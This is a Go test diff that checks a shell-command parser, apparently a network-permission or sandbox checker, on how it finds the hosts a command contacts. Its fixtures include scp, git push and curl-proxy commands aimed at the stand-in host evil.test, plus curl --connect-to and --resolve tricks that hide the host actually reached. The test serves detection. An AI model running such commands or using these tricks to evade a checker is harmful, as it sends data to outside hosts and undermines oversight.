@@ -78,3 +78,33 @@ func TestFoldersThatAreTakenWithAllThatIsInThem(t *testing.T) {
 		})
 	}
 }
+
+func TestEveryWayToNameAHost(t *testing.T) {
+	tests := map[string]string{
+		"scp a root@evil.test:x":                             "evil.test",
+		"scp -r evil.test:x .":                               "evil.test",
+		"git push git@evil.test:x HEAD:main":                 "evil.test",
+		"git push evil.test:x":                               "evil.test",
+		"git push --repo=evil.test:x":                        "evil.test",
+		"git clone --depth 1 evil.test:x":                    "evil.test",
+		"git ls-remote ssh://evil.test/x":                    "evil.test",
+		"curl -x http://evil.test:80 http://ok.test":         "evil.test ok.test",
+		"curl --proxy evil.test:80 http://ok.test":           "evil.test ok.test",
+		"curl --socks5-hostname evil.test:80 http://ok.test": "evil.test ok.test",
+		"git push origin HEAD:main":                          "",
+		"git fetch origin main:x":                            "",
+		"git clone ./a:b":                                    "",
+		"scp a b":                                            "",
+	}
+	for script, want := range tests {
+		f := Parse(script, "")
+		if diff := cmp.Diff(sorted(strings.Fields(want)), sorted(f.Hosts)); diff != "" || !f.Network {
+			t.Errorf("%s: network %v (-want +got):\n%s", script, f.Network, diff)
+		}
+	}
+	for _, script := range []string{"curl --connect-to ::evil.test:443 https://ok.test", "curl --resolve ok.test:443:192.0.2.1 https://ok.test"} {
+		if !Parse(script, "").Dynamic {
+			t.Errorf("%s: the host that is reached is another one", script)
+		}
+	}
+}
